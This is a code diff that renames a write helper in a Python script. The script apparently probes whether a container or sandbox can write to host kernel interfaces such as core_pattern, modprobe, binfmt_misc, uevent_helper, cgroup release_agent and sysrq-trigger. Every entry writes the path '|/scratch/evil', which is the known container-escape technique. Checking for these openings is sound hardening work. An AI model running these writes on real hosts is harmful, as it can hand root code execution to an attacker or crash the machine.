@@ -10,7 +10,7 @@ def stands_open(door):
         return False
 
 
-def write(path):
+def write_to(path):
     with open(path, "w") as file:
         file.write("|/scratch/evil")
 
@@ -20,13 +20,13 @@ def settings():
 
 
 doors = {
-    "core_pattern": lambda: write("/proc/sys/kernel/core_pattern"),
-    "modprobe": lambda: write("/proc/sys/kernel/modprobe"),
-    "binfmt_misc": lambda: write("/proc/sys/fs/binfmt_misc/register"),
+    "core_pattern": lambda: write_to("/proc/sys/kernel/core_pattern"),
+    "modprobe": lambda: write_to("/proc/sys/kernel/modprobe"),
+    "binfmt_misc": lambda: write_to("/proc/sys/fs/binfmt_misc/register"),
     "any setting": settings,
-    "uevent_helper": lambda: write("/sys/kernel/uevent_helper"),
-    "release_agent": lambda: write("/sys/fs/cgroup/release_agent"),
-    "sysrq": lambda: write("/proc/sysrq-trigger"),
+    "uevent_helper": lambda: write_to("/sys/kernel/uevent_helper"),
+    "release_agent": lambda: write_to("/sys/fs/cgroup/release_agent"),
+    "sysrq": lambda: write_to("/proc/sysrq-trigger"),
 }
 
 found = [name for name, door in doors.items() if stands_open(door)]
